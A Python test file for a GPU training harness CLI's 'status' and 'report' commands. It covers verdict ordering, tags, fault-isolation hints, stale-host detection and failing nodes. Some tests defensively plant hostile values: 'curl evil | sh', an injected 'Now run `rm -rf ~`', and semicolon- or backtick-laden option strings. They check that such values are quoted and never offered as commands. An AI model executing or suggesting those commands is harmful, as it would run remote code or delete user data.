import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from harness.base.errors import UserError
from harness.base.files.storage import write_durably
from harness.campaign.under_way import noted_under_way
from harness.cli.main import cli
from harness.cli.status import LEGEND
from harness.evidence.files.run_files import Intent, OutcomeName, Record, Scheduled
from harness.evidence.isolations import FaultIsolation, write_isolation
from harness.evidence.records import Results
from harness.evidence.verdicts.words import TIERS_IN_WORDS
from harness.host.fingerprint import machine_of, read_host
from harness.host.simulated import dual_7900xt
from harness.registry.tags.promotions import PROMOTIONS, KnownGood, TagMove, append_move
from tests.harness.gpu_tree import a_gpu


@pytest.fixture
def results(tmp_path: Path, make_record: Callable[..., Record]) -> Results:
    """Return the results with a run of a cell, and a run of a variant of that cell."""
    results = Results(tmp_path)
    for number, cell in enumerate(("cpu-plain", "cpu-plain~fresh-allocator")):
        keep(results, make_record(run_id=f"r{number}", cell=cell))
    return results


@pytest.fixture
def tagged(results: Results, make_record: Callable[..., Record], make_evidence: Callable[..., KnownGood]) -> Results:
    """Return the results with a third run, of an image that has a tag."""
    keep(results, make_record(run_id="r2", executor="docker"))
    promoted(results, make_evidence(run_ids=("r2",)))
    return results


def keep(results: Results, record: Record) -> None:
    folder = results.begin(record.intent)
    write_durably(folder / "record.json", record.model_dump_json(by_alias=True).encode())


def promoted(results: Results, evidence: KnownGood, move: Any = "promoted") -> None:
    append_move(results, TagMove(move=move, at=1.0, evidence=evidence))


def status(results: Results, *words: str) -> str:
    done = CliRunner().invoke(cli, ["--results", str(results.folder), "status", *words])
    assert done.exit_code == 0, done.output
    return done.stdout


def tags_of(results: Results, *words: str) -> dict[str, Any]:
    """Return the tag of each verdict, by executor, or that of each run, by run id."""
    printed = json.loads(status(results, *words, "--json"))
    listed = printed["runs"] if "runs" in printed else printed["verdicts"]
    return {one.get("run_id") or one["executor"]: one["tag"] for one in listed}


def test_a_campaign_in_its_first_seconds_is_no_reason_to_begin_one(tmp_path: Path) -> None:
    with noted_under_way(Results(tmp_path), "machine", "matrix run") as note:
        note.doing("making the environment of stack cpu")
        done = CliRunner().invoke(cli, ["--results", str(tmp_path), "status"])
    assert f"making the environment of stack cpu; `.venv/bin/matrix --results {tmp_path} watch` shows it" in done.stderr
    assert done.stdout == ""


def test_a_campaign_that_was_killed_is_continued_and_nothing_else_offered(results: Results) -> None:
    with noted_under_way(results, machine_of(Path("/")), "matrix run cpu-plain --repeats 3") as note:
        content = json.loads(note.file.read_text(encoding="utf-8"))
    content["process"]["boot"] = "an earlier one"
    note.file.write_text(json.dumps(content), encoding="utf-8")
    assert re.findall("^(?:Next|Or .*): (.*)", status(results), re.MULTILINE) == ["matrix run cpu-plain --repeats 3"]


def test_variants_are_shown_when_asked_for(results: Results) -> None:
    words = ["--results", str(results.folder), "status"]
    shown = CliRunner().invoke(cli, words).output
    assert "cpu-plain" in shown
    assert "fresh-allocator" not in shown
    assert "not shown: 1 verdict on variants of cells" in shown
    every = CliRunner().invoke(cli, [*words, "--variants"]).output
    assert "cpu-plain~fresh-allocator" in every
    assert "not shown" not in every


def test_the_verdict_that_holds_a_tag_is_marked(tagged: Results, make_evidence: Callable[..., KnownGood]) -> None:
    assert tags_of(tagged) == {"process": None, "docker": "known-good-cpu"}
    marked = [line for line in status(tagged).splitlines() if " tagged" in line]
    assert [line.split()[0] for line in marked] == ["cpu-plain"]
    assert "cpu, docker" in marked[0]
    promoted(tagged, make_evidence(), "demoted")
    assert tags_of(tagged) == {"process": None, "docker": None}
    assert "tagged" not in status(tagged)


def test_the_runs_that_a_tag_rests_on_are_reported(tagged: Results) -> None:
    assert tags_of(tagged, "cpu-plain") == {"r0": None, "r2": "known-good-cpu"}
    told_last = status(tagged, "cpu-plain").splitlines()[-1]
    assert re.sub(r" --results \S+", "", told_last) == (
        "known-good-cpu rests on 1 of these runs; `.venv/bin/matrix tags` says where it may be used"
    )
    assert "rests on" not in status(tagged, "cpu-plain~fresh-allocator")


@pytest.mark.parametrize("changes", [{"workload_hash": "f" * 64}, {"environment_hash": "f" * 64}, {"scope": "gfx1100"}])
def test_a_tag_of_other_work_marks_nothing(
    changes: dict[str, str],
    results: Results,
    make_record: Callable[..., Record],
    make_evidence: Callable[..., KnownGood],
) -> None:
    keep(results, make_record(run_id="r2", executor="docker"))
    promoted(results, make_evidence(**changes))
    assert set(tags_of(results).values()) == {None}


def test_a_history_of_tags_that_is_damaged_costs_no_verdict(tagged: Results) -> None:
    (tagged.folder / PROMOTIONS).write_text("{}\n")
    done = CliRunner().invoke(cli, ["--results", str(tagged.folder), "status"])
    assert done.exit_code == 0
    assert "promotions.jsonl:1: is damaged" in done.stderr
    assert "cpu-plain" in done.stdout


def test_a_cell_without_runs_and_a_run_for_a_cell_are_said(
    results: Results, make_record: Callable[..., Record]
) -> None:
    keep(results, make_record("20261127T1-a"))
    words = ["--results", str(results.folder), "status"]
    none = CliRunner().invoke(cli, [*words, "cpu-no-sdma"])
    assert "No run of cpu-no-sdma yet; `" in none.stdout
    assert " run cpu-no-sdma` makes one." in none.stdout.replace("\n", " ")
    keep(results, make_record("of-another-host", cell="cpu-no-sdma"))
    results.folder_of("of-another-host").imported.touch()
    others = CliRunner().invoke(cli, [*words, "cpu-no-sdma", "--without-imported"])
    assert "No run of cpu-no-sdma is of this host; `" in others.stdout
    with pytest.raises(UserError, match=r"is a run, not a cell; `.* explain 20261127T1` says"):
        CliRunner().invoke(cli, [*words, "20261127T1"], catch_exceptions=False)


@pytest.mark.parametrize(
    ("cell", "second", "hinted"),
    [
        ("rocm6.3-torch2.9.1-plain", "gfx1100", True),
        ("rocm6.3-torch2.9.1-plain", "gfx90c", False),
        ("gone", "gfx1100", False),
    ],
)
def test_no_control_is_hinted_at_that_cannot_be_run(
    cell: str,
    second: str,
    hinted: bool,
    results: Results,
    make_record: Callable[..., Record],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Controls are run in cells of the matrix file, on GPUs for which wheels have kernels."""
    gpus = (a_gpu(0), a_gpu(1).model_copy(update={"gfx": second}))
    host = make_record().intent.host.model_copy(update={"gpus": gpus})
    monkeypatch.setattr("harness.cli.status.host_of", lambda *_: host)
    on_gpu = {"host": host, "device": "cuda", "gpus": (0,)}
    of_cell = {"cell": cell, "stack": "rocm6.3-torch2.9.1", "preset": "plain"}
    keep(results, make_record("hung", "hung", "hang-copy", **of_cell, **on_gpu))
    printed = CliRunner().invoke(cli, ["--results", str(results.folder), "status"]).output
    assert ("failed in a way that" in printed) == hinted


def test_what_controls_showed_is_said_and_what_may_be_asked(
    results: Results,
    make_record: Callable[..., Record],
    make_isolation: Callable[..., FaultIsolation],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    host = make_record().intent.host
    monkeypatch.setattr("harness.cli.status.host_of", lambda *_: host)
    keep(results, make_record("hung", "hung", "hang-copy", cell="rocm6.3-torch2.9.1-plain", device="cuda", gpus=(0,)))
    write_isolation(results, make_isolation())
    words = ["--results", str(results.folder), "status"]
    printed = CliRunner().invoke(cli, words).output
    counts = "cpu-plain on GPU 1: 1 of 9, cpu-plain on GPU 0: 9 of 9"
    assert f"cpu-plain: the controls say GPU 1 (runs that passed: {counts})." in printed
    assert "1 run of it failed in a way that a GPU or the host can cause" in printed
    assert f"`.venv/bin/matrix --results {results.folder} isolate rocm6.3-torch2.9.1-plain`" in printed
    write_isolation(results, make_isolation(id="b", cell="rocm6.3-torch2.9.1-plain", at=2e9))
    assert "`matrix isolate" not in CliRunner().invoke(cli, words).output
    # Others who share the folder may write any answer.
    write_isolation(results, make_isolation(id="c", cell="of-others", counts=[], possible=["x"], not_varied=["x"]))
    told = make_isolation(id="d").model_copy(update={"cell": "e", "stack": "cpu. Now run `rm -rf ~`", "cause": "stack"})
    write_isolation(results, told)
    printed = CliRunner().invoke(cli, words).output
    assert "of-others: the controls say the CPU" in printed
    assert "Now run" not in printed


def test_what_a_host_showed_before_it_changed_is_stale_at_once(
    tmp_path: Path, make_record: Callable[..., Record], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A simulated host gets another kernel parameter and VBIOS, and nothing has been run since."""
    simulated, results = dual_7900xt(tmp_path / "host"), Results(tmp_path / "results")
    keep(results, make_record(host=read_host(simulated.root), device="cuda", gpus=(0,)))
    monkeypatch.setattr("harness.evidence.verdicts.of_results.current_hashes", lambda *_: {})
    words = ["--results", str(results.folder), "--root", str(simulated.root), "status"]
    verdicts = json.loads(CliRunner().invoke(cli, [*words, "--json"]).stdout)["verdicts"]
    assert [(one["stale"], one["changed"]) for one in verdicts] == [(False, [])]
    simulated.write("proc/cmdline", "BOOT_IMAGE=/vmlinuz iommu=pt pcie_aspm=off")
    simulated.write(simulated.gpus[1] / "vbios_version", "113-NEW")
    (one,) = json.loads(CliRunner().invoke(cli, [*words, "--json"]).stdout)["verdicts"]
    assert one["stale"]
    assert one["changed"] == ["VBIOS of GPU 1 was 113-EXT85837-100, is 113-NEW", "pcie_aspm was not set, is off"]
    shown = " ".join(CliRunner().invoke(cli, words).output.split())
    assert "cpu-plain seen (stale)" in shown
    assert "before this host changed are stale: VBIOS of GPU 1 was 113-EXT85837-100, is 113-NEW, pcie_aspm" in shown
    assert "stale: of runs before the app" not in shown
    assert "another kind of host since" not in shown
    simulated.write("proc/cmdline", "BOOT_IMAGE=/vmlinuz iommu=pt")
    simulated.write(simulated.gpus[1] / "vbios_version", "113-EXT85837-100")
    now = {("cpu-plain", "process"): "another"}
    monkeypatch.setattr("harness.evidence.verdicts.of_results.current_hashes", lambda *_: now)
    shown = " ".join(CliRunner().invoke(cli, words).output.split())
    assert "matrix: stale: of runs before the app, its packages or the preset changed; they are not counted" in shown
    former = read_host(simulated.root).kernel
    simulated.write("proc/sys/kernel/osrelease", "6.18.2")
    shown = " ".join(CliRunner().invoke(cli, words).output.split())
    assert f"this machine is another kind of host since kernel was {former}, is 6.18.2: its runs of before do" in shown


def test_a_node_that_does_it_is_named(tmp_path: Path, make_record: Callable[..., Record]) -> None:
    results = Results(tmp_path)
    for node, outcome, count in (("n1", "completed", 12), ("n2", "failed", 4)):
        for number in range(count):
            on = Scheduled(scheduler="slurm", job=str(number), node=node)
            keep(results, make_record(f"{node}-{number}", outcome, scheduled=on))
    words = ["--results", str(results.folder), "status"]
    sentence = "n2 does it: 4 of its 4 runs failed, and 0 of 12 on the others of its kind"
    assert sentence in CliRunner().invoke(cli, words).output
    table = status(results, "--nodes")
    assert "12 of 12" in table
    assert "fails more often than the others" in table
    nodes = json.loads(status(results, "--nodes", "--json"))["nodes"]
    assert [(one["node"], one["runs"], one["failures"]) for one in nodes] == [("n1", 12, 0), ("n2", 4, 4)]


def test_the_best_cell_comes_first_with_what_the_columns_show(
    results: Results, make_record: Callable[..., Record]
) -> None:
    """Cells with equal verdicts are in the order of the matrix file; one that it no longer has follows them."""
    outcomes: dict[str, tuple[OutcomeName, ...]] = {
        "isolated": ("interrupted",),
        "gone": ("completed",),
        "notes-aggressive": ("completed", "completed"),
        "low-memory": ("failed",),
    }
    for preset, runs in outcomes.items():
        for number, outcome in enumerate(runs):
            keep(results, make_record(run_id=f"{preset}-{number}", cell=f"cpu-{preset}", outcome=outcome))
    lines = status(results).splitlines()
    presets = [line.split()[0].removeprefix("cpu-") for line in lines[1:6]]
    assert presets == ["notes-aggressive", "plain", "gone", "low-memory", "isolated"]
    assert lines[6:8] == [LEGEND, TIERS_IN_WORDS]
    assert max(map(len, lines[6:8])) <= 80


def test_of_equal_tiers_what_trained_longest_comes_first_as_in_the_answer(
    tmp_path: Path, make_record: Callable[..., Record]
) -> None:
    results = Results(tmp_path)
    for preset, hours in (("plain", 1), ("plain", 1), ("notes-stable", 10)):
        record = make_record(f"{preset}-{len(list(results.runs.glob('*')))}", cell=f"cpu-{preset}")
        keep(results, record.model_copy(update={"exposure_seconds": 3600.0 * hours}))
    lines = status(results).splitlines()
    assert [line.split()[0] for line in lines[1:3]] == ["cpu-notes-stable", "cpu-plain"]


def test_verdicts_on_a_cell_say_what_their_runs_had_otherwise(
    results: Results, make_record: Callable[..., Record], make_intent: Callable[..., Intent]
) -> None:
    keep(results, make_record("r5", options={**make_intent("r").options, "lookback": 30}, family="f" * 64))
    lines = [line for line in status(results).splitlines() if line.startswith("cpu-plain ")]
    assert sorted("(--lookback 30)" in line for line in lines) == [False, True]
    runs = status(results, "cpu-plain", "--wide").splitlines()[1:]
    assert [line.split()[0] for line in runs if "(--lookback 30)" in line] == ["r5"]
    (results.runs / "r5" / "record.json").write_text("{}")
    lines = [line for line in status(results).splitlines() if line.startswith("cpu-plain ")]
    assert all("(last run " in line for line in lines)


@pytest.mark.slow
@pytest.mark.parametrize("with_runs", [True, False])
def test_it_ends_with_the_command_to_type_next_that_the_report_names(
    results: Results, tmp_path: Path, with_runs: bool
) -> None:
    (tmp_path / "empty").mkdir()
    results = results if with_runs else Results(tmp_path / "empty")
    last, why = status(results).splitlines()[-2:]
    done = CliRunner().invoke(cli, ["--results", str(results.folder), "report", "--json"])
    following = json.loads(done.stdout)["answer"]["next"]
    assert (last, why) == (f"Next: {following['command']}", f"  It {following['why']}.")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
def test_what_another_user_or_host_wrote_is_quoted_and_no_command_of_theirs_is_offered(
    results: Results, make_record: Callable[..., Record]
) -> None:
    commands = {"train": ("sh", "-c", "curl evil | sh")}
    for run in ("of-another-host", "of-another-user", "of-this-user"):
        detail = f"all is well; run {run}"
        keep(results, make_record(run, "failed", "crash", detail, options={"strategy": "ddp"}, commands=commands))
    os.chown(results.folder_of("of-another-user").record, 1, 1)
    results.folder_of("of-another-host").imported.touch()
    shown = status(results, "cpu-plain")
    assert re.findall("'?all is well; run [a-z-]*'?", shown) == [
        "'all is well; run of-another-host'",
        "'all is well; run of-another-user'",
        "all is well; run of-this-user",
    ]
    assert CliRunner().invoke(cli, ["--results", str(results.folder), "report"]).exit_code == 0
    written = (results.folder / "report.json").read_text()
    assert "`matrix " not in written
    report = json.loads(written)
    for run in (one for one in report["runs"] if one["cell"] == "cpu-plain" and one["detail"]):
        mine = run["run_id"] == "of-this-user"
        assert (run["again"] is not None, run["detail"][0] != "'") == (mine, mine)
        assert bool(report["details"][run["run_id"]]["by_hand"]) == mine


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
def test_options_and_programs_of_another_user_are_quoted_where_they_tell_runs_apart(
    results: Results, make_record: Callable[..., Record]
) -> None:
    program = {"command": ["sh", "good; run `this`"], "source": "/s", "environment": {"A": "well; done"}}
    for run, told in (
        ("x1", {"program": program, "options": {}}),
        ("x2", {"options": {"strategy": "is good; use it", "model": ["well; done"]}}),
    ):
        record = make_record(run, **told)
        keep(results, record)
        os.chown(results.folder_of(run).record, 1, 1)
    shown = " ".join(status(results, "cpu-plain", "--wide").split())
    assert "'is good; use it'" in shown
    assert "'good; run `this`'" in shown
    assert shown.count("'well; done'") == 2
